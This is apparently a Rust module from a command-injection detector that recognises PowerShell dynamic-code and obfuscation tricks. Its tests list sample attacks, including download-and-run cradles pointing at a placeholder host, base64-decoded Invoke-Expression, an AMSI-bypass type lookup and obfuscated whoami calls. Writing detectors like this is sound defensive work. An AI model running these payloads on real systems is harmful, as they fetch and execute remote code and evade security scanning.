//! PowerShell's own ways of running code, which the POSIX and cmd.exe readings of
//! [`super::cmdi`] do not parse: `Invoke-Expression` (`iex`) applied to an expression, the
//! `Net.WebClient` download cradle, .NET calls that compile a string or start a process, a
//! command name assembled from character codes or from letters of a built-in string, and the
//! call operator (`&`, `.`) applied to a computed name. Each needs PowerShell's own syntax
//! (`[type]::`, `-join`, `$env:`, `&(...)`), which prose and the other shells do not write.
//!
//! Questions about these APIs name them too ("Is 'Invoke-Expression' blocked by AMSI?",
//! "[scriptblock]::Create() vs { }", "IEX ($AAPL) closed higher"): a name in quotes, a call
//! without an argument and an argument that prose goes on after are not code.

use std::sync::OnceLock;

use aho_corasick::AhoCorasick;

use super::needle::starts_with_nocase;

/// What an anchor found in the value means, before its surroundings are checked.
#[derive(Clone, Copy)]
enum Anchor {
    /// `iex`: the alias of `Invoke-Expression`, but also a stock exchange's name and Elixir's
    /// shell, so its argument is checked.
    Iex,
    InvokeExpression,
    /// `(New-Object Net.WebClient)`: a cradle once one of its `Download*` methods is called.
    WebClient,
    /// `Set-Alias x iex`: a new name for Invoke-Expression.
    Alias,
    /// `gcm` / `Get-Command` with a wildcard, whose result is then called.
    CommandLookup,
    /// The call operator `&` or `.` before `(`: a command whose name is computed.
    CallOperator,
    /// `icm { ... }`: Invoke-Command running a script block.
    ScriptBlock,
    /// A .NET call (the anchor ends with its `(`) that is itself the evidence once it is given
    /// an argument.
    Call(&'static str),
}

const ANCHORS: [(&str, Anchor); 21] = [
    ("iex", Anchor::Iex),
    ("icm {", Anchor::ScriptBlock),
    ("invoke-command {", Anchor::ScriptBlock),
    ("invoke-expression", Anchor::InvokeExpression),
    ("(new-object net.webclient)", Anchor::WebClient),
    ("(new-object system.net.webclient)", Anchor::WebClient),
    ("set-alias ", Anchor::Alias),
    ("new-alias ", Anchor::Alias),
    ("sal ", Anchor::Alias),
    ("gcm ", Anchor::CommandLookup),
    ("get-command ", Anchor::CommandLookup),
    ("&(", Anchor::CallOperator),
    (".(", Anchor::CallOperator),
    ("& (", Anchor::CallOperator),
    (". (", Anchor::CallOperator),
    (
        "[scriptblock]::create(",
        Anchor::Call("compiles a string into a script block"),
    ),
    (
        "$executioncontext.invokecommand.invokescript(",
        Anchor::Call("runs a string through the engine's InvokeCommand"),
    ),
    (
        "$executioncontext.invokecommand.newscriptblock(",
        Anchor::Call("compiles a string through the engine's InvokeCommand"),
    ),
    (
        "diagnostics.process]::start(",
        Anchor::Call("starts a process through .NET"),
    ),
    (
        "reflection.assembly]::load(",
        Anchor::Call("loads an assembly from memory"),
    ),
    (
        "[ref].assembly.gettype(",
        Anchor::Call("reaches PowerShell's internal types (the AMSI bypass)"),
    ),
];

/// Built-in strings whose letters are indexed to spell `iex` or `cmd` without writing them:
/// `$env:ComSpec[4,15,25]`, `$ShellId[1]+$ShellId[13]`, `$PSHome[4]+$PSHome[30]`.
const LETTER_SOURCES: [&str; 4] = [
    "$env:comspec[",
    "$shellid[",
    "$pshome[",
    "$verbosepreference.tostring()[",
];

fn anchors() -> Option<&'static AhoCorasick> {
    static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    AC.get_or_init(|| {
        AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .ascii_case_insensitive(true)
            .build(
                ANCHORS
                    .iter()
                    .map(|(a, _)| *a)
                    .chain(LETTER_SOURCES.iter().copied()),
            )
            .ok()
    })
    .as_ref()
}

/// Bytes at which [`may_hold`] looks closer.
static GATE: [bool; 256] = crate::detect::prefilter::byte_set(b"[${|('\";");

/// Whether `b` may hold a shape of [`ANCHORS`]: each has a `[`, `$`, `{` or `|`, or a `(` or
/// quote right after `iex`, `Invoke-Expression` or a call operator, or `(New-Object` /
/// `(gcm`, or `; sal` and its kin. Values with parentheses and apostrophes in prose ("Socks (3
/// pack)", "O'Brien") are told apart here, without the automaton.
fn may_hold(b: &[u8]) -> bool {
    let before = |i: usize| b[..i].trim_ascii_end().last().copied();
    b.iter().enumerate().any(|(i, &c)| {
        GATE[usize::from(c)]
            && match c {
                b'(' | b'\'' | b'"' => {
                    matches!(before(i), Some(b'x' | b'X' | b'n' | b'N' | b'&' | b'.'))
                        || (c == b'('
                            && [&b"new-object"[..], b"gcm ", b"get-command "]
                                .iter()
                                .any(|w| starts_with_nocase(&b[i + 1..], w)))
                }
                b';' => {
                    let next = b[i + 1..].trim_ascii_start();
                    [&b"sal "[..], b"set-alias ", b"new-alias "]
                        .iter()
                        .any(|w| starts_with_nocase(next, w))
                }
                _ => true,
            }
    })
}

/// What the value makes PowerShell do, if it holds one of the shapes above.
pub(super) fn dynamic_code(text: &str) -> Option<&'static str> {
    let b = text.as_bytes();
    if !may_hold(b) {
        return None;
    }
    for m in anchors()?.find_overlapping_iter(text) {
        let (start, end) = (m.start(), m.end());
        // The patterns after the anchors are the [`LETTER_SOURCES`], evidence on their own.
        let Some((_, anchor)) = ANCHORS.get(m.pattern().as_usize()) else {
            return Some("builds a command name from letters of a built-in string");
        };
        let found = match *anchor {
            Anchor::Call(what) => (called_with_argument(&b[end..])
                && call_ends_statement(&b[end - 1..]))
            .then_some(what),
            Anchor::Iex => (word_starts(b, start) && iex_applied(b, start, end))
                .then_some("Invoke-Expression (iex) runs an expression as code"),
            Anchor::InvokeExpression => {
                (word_starts(b, start) && !quoted_name(b, start, end) && has_argument(&b[end..]))
                    .then_some("Invoke-Expression runs a string as code")
            }
            Anchor::WebClient => {
                download_called(&b[end..]).then_some("downloads with Net.WebClient (a cradle)")
            }
            Anchor::Alias => (word_starts(b, start) && aliases_iex(&b[end..]))
                .then_some("gives Invoke-Expression a new name"),
            Anchor::CommandLookup => (word_starts(b, start) && wildcard_called(b, start, end))
                .then_some("calls a command found by a wildcard"),
            Anchor::ScriptBlock => (statement_starts(b, start)
                && b[end..].iter().take(200).any(|&c| c == b'}'))
            .then_some("Invoke-Command runs a script block"),
            Anchor::CallOperator => (statement_starts(b, start) && computed_name(&b[end..]))
                .then_some("calls a command whose name is computed"),
        };
        if found.is_some() {
            return found;
        }
    }
    None
}

/// No letter, digit, `-` or `_` touches `b[at]` from the left.
fn word_starts(b: &[u8], at: usize) -> bool {
    at == 0 || !matches!(b[at - 1], b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_')
}

/// The name between two equal quotes (`'Invoke-Expression'`, `"iex"`): a name mentioned.
fn quoted_name(b: &[u8], start: usize, end: usize) -> bool {
    start > 0 && matches!(b[start - 1], b'\'' | b'"') && b.get(end) == Some(&b[start - 1])
}

/// A call's `(` (the last byte of the anchor) is followed by an argument, not by `)`.
fn called_with_argument(rest: &[u8]) -> bool {
    rest.trim_ascii_start().first().is_some_and(|&c| c != b')')
}

/// The call whose `(` opens `call` ends its statement or has a method called on its result
/// (`.Invoke()`): "...::Start(\"notepad.exe\") opens notepad in my app" is a question.
fn call_ends_statement(call: &[u8]) -> bool {
    parenthesis_len(call).is_some_and(|n| ends_statement(&call[n..]))
}

/// `iex` followed by what it evaluates: `iex(...)`, `iex $x`, `iex 'code'`, or `... | iex`.
fn iex_applied(b: &[u8], start: usize, end: usize) -> bool {
    let rest = &b[end..];
    if rest
        .first()
        .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-' || *c == b'_')
    {
        return false;
    }
    // `... | iex`: whatever comes down the pipe is run.
    let piped = b[..start].trim_ascii_end().ends_with(b"|");
    if piped && ends_statement(rest) {
        return true;
    }
    if start > 1 && matches!(b[start - 1], b'"' | b'\'') && matches!(b[start - 2], b'.' | b'&') {
        // `."iex" 'code'`: the call operator with the name quoted.
        return rest.first() == Some(&b[start - 1]) && has_argument(&rest[1..]);
    }
    !quoted_name(b, start, end) && has_argument(rest)
}

/// What follows a command that takes code, as a statement of its own: a variable, a string,
/// or a parenthesised expression that opens as PowerShell code does (`$name`, `[`, `(`, a
/// quote, a cmdlet, a download: `iex (New-Object Net.WebClient)...`, `iex (iwr ...)`), with
/// nothing but the statement's end or a method call after it. "IEX ('Flash Boys' exchange)
/// question", "IEX $AAPL", "iex (cloud)" and Elixir's prompt `iex(1)>` are prose.
fn has_argument(rest: &[u8]) -> bool {
    let arg = rest.trim_ascii_start();
    let len = match arg.first() {
        Some(b'$') => variable_len(arg),
        Some(q @ (b'\'' | b'"')) => arg[1..]
            .iter()
            .position(|c| c == q)
            .filter(|&n| n > 0)
            .map(|n| n + 2),
        Some(b'(') => parenthesis_len(arg).filter(|_| opens_as_code(arg[1..].trim_ascii_start())),
        _ => None,
    };
    len.is_some_and(|n| ends_statement(&arg[n..]))
}

/// The length of a variable at the start of `arg`: `$name`, `$env:name`, `${...}`, `$(...)`.
/// A name of capitals alone, five or fewer, is a ticker (`$AAPL`).
fn variable_len(arg: &[u8]) -> Option<usize> {
    match arg.get(1)? {
        b'(' => parenthesis_len(&arg[1..]).map(|n| n + 1),
        b'{' => arg.iter().position(|&c| c == b'}').map(|n| n + 1),
        c if c.is_ascii_alphabetic() || *c == b'_' => {
            let n = arg[1..]
                .iter()
                .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'_' | b':')))
                .map_or(arg.len(), |n| n + 1);
            let name = &arg[1..n];
            let ticker = name.len() <= 5 && name.iter().all(u8::is_ascii_uppercase);
            (!ticker).then_some(n)
        }
        _ => None,
    }
}

/// The length of the parenthesised group that `arg` opens, to its matching `)`.
fn parenthesis_len(arg: &[u8]) -> Option<usize> {
    let mut depth = 0usize;
    for (i, &c) in arg.iter().enumerate() {
        match c {
            b'(' => depth += 1,
            b')' => {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(i + 1);
                }
            }
            _ => {}
        }
    }
    None
}

/// The inside of a parenthesis opens as code: a variable, a type, a group, a string, a
/// cmdlet (`New-Object`) or an alias whose output is code ([`CODE_SOURCES`]).
fn opens_as_code(inner: &[u8]) -> bool {
    match inner.first() {
        Some(b'$') => variable_len(inner).is_some(),
        Some(b'[' | b'(' | b'\'' | b'"') => true,
        Some(c) if c.is_ascii_alphabetic() => {
            let word_len = inner
                .iter()
                .position(|c| !(c.is_ascii_alphanumeric() || *c == b'-'))
                .unwrap_or(inner.len());
            let word = &inner[..word_len];
            let cmdlet =
                word[1..].contains(&b'-') && word.last().is_some_and(u8::is_ascii_alphabetic);
            cmdlet
                || CODE_SOURCES
                    .iter()
                    .any(|a| word.eq_ignore_ascii_case(a.as_bytes()))
        }
        _ => false,
    }
}

/// Nothing but the end of a statement follows (the value's end, `;`, `|`, `)`, `}`, a line
/// break), or a method called on the result (`).DownloadString(...)`).
fn ends_statement(after: &[u8]) -> bool {
    let after = after.trim_ascii_start();
    match after.first() {
        None => true,
        Some(b';' | b'|' | b')' | b'}' | b'\n' | b'\r') => true,
        Some(b'.') => after.get(1).is_some_and(u8::is_ascii_alphabetic),
        _ => false,
    }
}

/// Aliases whose output `iex` runs: a download (`iwr`, `irm`, `curl`, `wget`) or a file or
/// the clipboard read (`gc`, `cat`, `type`, `gcb`).
const CODE_SOURCES: [&str; 8] = ["iwr", "irm", "curl", "wget", "gc", "cat", "type", "gcb"];

/// `.DownloadString(`, `.DownloadFile(`, `.DownloadData(` called with an argument.
fn download_called(rest: &[u8]) -> bool {
    starts_with_nocase(rest, b".download")
        && rest
            .iter()
            .take(32)
            .position(|&c| c == b'(')
            .is_some_and(|p| called_with_argument(&rest[p + 1..]))
}

/// `sal x iex`, `Set-Alias -Name x -Value Invoke-Expression`.
fn aliases_iex(rest: &[u8]) -> bool {
    let line = rest
        .split(|&c| matches!(c, b';' | b'\n' | b'|'))
        .next()
        .unwrap_or(rest);
    line.split(|c| c.is_ascii_whitespace())
        .any(|w| w.eq_ignore_ascii_case(b"iex") || w.eq_ignore_ascii_case(b"invoke-expression"))
}

/// `&(gcm I*e-E*)` or `(gcm *hoam*)|%{&$_}`: a wildcard lookup whose result is called.
fn wildcard_called(b: &[u8], start: usize, end: usize) -> bool {
    let arg_len = b[end..]
        .iter()
        .position(|c| c.is_ascii_whitespace() || matches!(c, b')' | b';' | b'|'))
        .unwrap_or(b.len() - end);
    let arg = &b[end..end + arg_len];
    if !arg.contains(&b'*') || !arg.iter().any(u8::is_ascii_alphabetic) {
        return false;
    }
    let before = b[..start].trim_ascii_end();
    let called_before = before.ends_with(b"&(") || before.ends_with(b".(");
    let after = &b[end + arg_len..];
    let called_after = memchr::memmem::find(&after[..after.len().min(32)], b"&$_").is_some();
    called_before || called_after
}

/// The call operator at the start of a statement: the value's start, or after `;`, `|`, `{`
/// or a line break (spaces between). After a word it is JavaScript's or C's bitwise and.
fn statement_starts(b: &[u8], at: usize) -> bool {
    let before = b[..at].trim_ascii_end();
    before.is_empty() || matches!(before[before.len() - 1], b';' | b'|' | b'{' | b'\n')
}

/// What the call operator calls: a name computed from variables, codes or a lookup
/// (`&($a+$b)`, `.($env:ComSpec[4,15,25]-join'')`, `& (-join[char[]](...))`).
fn computed_name(rest: &[u8]) -> bool {
    let inner = rest.trim_ascii_start();
    // `('who'+'ami')`: a name joined from strings.
    let joined = matches!(inner.first(), Some(b'\'' | b'"'))
        && inner
            .windows(3)
            .any(|w| matches!(w, b"'+'" | b"\"+\"" | b"' +" | b"\" +"));
    inner.first() == Some(&b'$')
        || joined
        || starts_with_nocase(inner, b"-join")
        || starts_with_nocase(inner, b"[string]::join(")
        || starts_with_nocase(inner, b"[char")
}

/// The value with PowerShell's escape backticks between letters removed (`I`E`X`,
/// `w`h`o`a`m`i`), when a word holds two or more of them: PowerShell reads an escaped letter
/// as the letter. A Markdown code span opens after a space, and an apostrophe typed as a
/// backtick (`don`t`) comes once.
pub(super) fn without_escapes(text: &str) -> Option<String> {
    let b = text.as_bytes();
    let inner = |i: usize| {
        b[i] == b'`'
            && i > 0
            && b[i - 1].is_ascii_alphanumeric()
            && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)
    };
    let mut word_ticks = 0;
    let mut enough = false;
    for (i, c) in b.iter().enumerate() {
        if c.is_ascii_whitespace() {
            word_ticks = 0;
        } else if inner(i) {
            word_ticks += 1;
            enough |= word_ticks >= 2;
        }
    }
    if !enough {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    let mut from = 0;
    for i in (0..b.len()).filter(|&i| inner(i)) {
        out.push_str(&text[from..i]);
        from = i + 1;
    }
    out.push_str(&text[from..]);
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::{dynamic_code, without_escapes};

    #[test]
    fn any_mix_of_the_pieces_reads_without_panic() {
        let parts = [
            "iex",
            "Invoke-Expression",
            "(",
            ")",
            "$",
            "$a",
            "'",
            "\"",
            "|",
            ";",
            "&(",
            ".(",
            "& (",
            "[char[]]",
            "]::",
            "[scriptblock]::Create(",
            "(New-Object Net.WebClient)",
            ".DownloadString(",
            "gcm ",
            "*",
            "sal ",
            "{",
            "}",
            "`",
            "w`h`o",
            " ",
            "\n",
            "é",
            "$env:ComSpec[",
            "-join",
            "+",
        ];
        let mut rng = crate::test_rng::TestRng::new(0x2545_F491_4F6C_DD1D);
        let mut found = 0;
        for _ in 0..20_000 {
            let t = rng.pieces(&parts, 10);
            found += usize::from(dynamic_code(&t).is_some());
            if let Some(plain) = without_escapes(&t) {
                let _ = dynamic_code(&plain);
            }
        }
        assert!(found > 100, "{found}");
    }

    #[test]
    fn escape_backticks_are_removed_from_words() {
        assert_eq!(
            without_escapes("x; w`h`o`a`m`i").as_deref(),
            Some("x; whoami")
        );
        assert_eq!(without_escapes("I`E`X('x')").as_deref(), Some("IEX('x')"));
        assert_eq!(without_escapes("use `ls` or `dir`"), None);
        assert_eq!(without_escapes("don`t and can`t"), None);
        assert_eq!(without_escapes("```js\nlet a = `${b}`\n```"), None);
    }

    #[test]
    fn the_detectors_gate_lets_every_shape_through() {
        // `CmdiDetector::best` runs `dynamic_code` only on values with the bytes it needs.
        let d = crate::detect::cmdi::CmdiDetector::from_env();
        for attack in ATTACKS {
            assert!(d.inspect(attack).is_some(), "{attack}");
        }
    }

    #[test]
    fn dynamic_code_is_found() {
        for attack in ATTACKS {
            assert!(dynamic_code(attack).is_some(), "{attack}");
        }
    }

    const ATTACKS: [&str; 23] = [
        "iex (New-Object Net.WebClient).DownloadString('http://a.tld/x')",
        "IEX (iwr http://a.tld/x)",
        "x; iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBo')))",
        "iwr http://a.tld/s.ps1 | iex",
        "x; Invoke-Expression 'whoami'",
        "Invoke-Expression $payload",
        "(New-Object System.Net.WebClient).DownloadFile('http://a.tld/x.exe','x.exe')",
        "x; [scriptblock]::Create('whoami').Invoke()",
        "x; $ExecutionContext.InvokeCommand.InvokeScript('whoami')",
        "x; [System.Diagnostics.Process]::Start('calc')",
        "[Reflection.Assembly]::Load($bytes)",
        "x; [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
        "x; &([string]::join('',[char[]](119,104,111,97,109,105)))",
        "x; & (-join[char[]](119,104,111,97,109,105))",
        "x; sal x iex; x whoami",
        "x; &(gcm I*e-E*)('whoami')",
        "x; (gcm *hoam*)|%{&$_}",
        "x; .($env:ComSpec[4,15,25]-join'') whoami",
        "x; $a='who';$b='ami';&($a+$b)",
        "($ShellId[1]+$ShellId[13]+'x')",
        "x; .\"iex\" 'whoami'",
        ".('who'+'ami')",
        "x; icm {whoami}",
    ];

    #[test]
    fn prose_and_other_code_pass() {
        for benign in [
            "IEX (Investors Exchange) listed the stock",
            "iex(1)> Enum.map([1, 2], &(&1 * 2))",
            "run iex -S mix to start",
            "Apex (iex) and more",
            "a&(b|c) in C",
            "x = y &(mask)",
            "The WebClient class is obsolete; use HttpClient",
            "char[] buf = new char[10]",
            "[char] is a type",
            "sal is a fish",
            "gcm hello",
            "Invoke-Expression is dangerous, avoid it",
            "Get-Command *-Item",
            "mix of `code` and text",
            "a.('b') in a template",
            "see the icm {docs}",
            // Found by a hunt for look-alikes: the exchange, Elixir, questions about the APIs.
            "IEX 'speed bump' of 350 microseconds - does your API account for it?",
            "Your quotes page says IEX ($AAPL) but the last trade was on Nasdaq",
            "Re: IEX ('Flash Boys' exchange) - account statement question",
            "Buy on IEX $AAPL",
            "We use iex (cloud) for quotes",
            "I bought it on IEX ($12.50 per share)",
            "Elixir: iex (\"interactive elixir\") starts a shell",
            "Open iex ($ iex -S mix) and recompile",
            "Our EDR flagged 'Invoke-Expression' in a build log, false alarm?",
            "Is \"Invoke-Expression\" blocked by AMSI?",
            "never paste 'iwr ... | iex' commands from unknown websites",
            "System.Net.WebClient.DownloadString() returns garbled UTF-8",
            "C#: using (var wc = new System.Net.WebClient()) { wc.DownloadFile(url, path); }",
            "[scriptblock]::Create() vs { } - which is faster?",
            "$ExecutionContext.InvokeCommand.ExpandString($s) expands variables",
            "How do I convert [char[]](72,101,108,108,111) to a string?",
            "Why does Invoke-Expression $cmd fail with spaces?",
            "[System.Diagnostics.Process]::Start(\"notepad.exe\") opens notepad in my app",
        ] {
            assert!(dynamic_code(benign).is_none(), "{benign}");
        }
    }
}
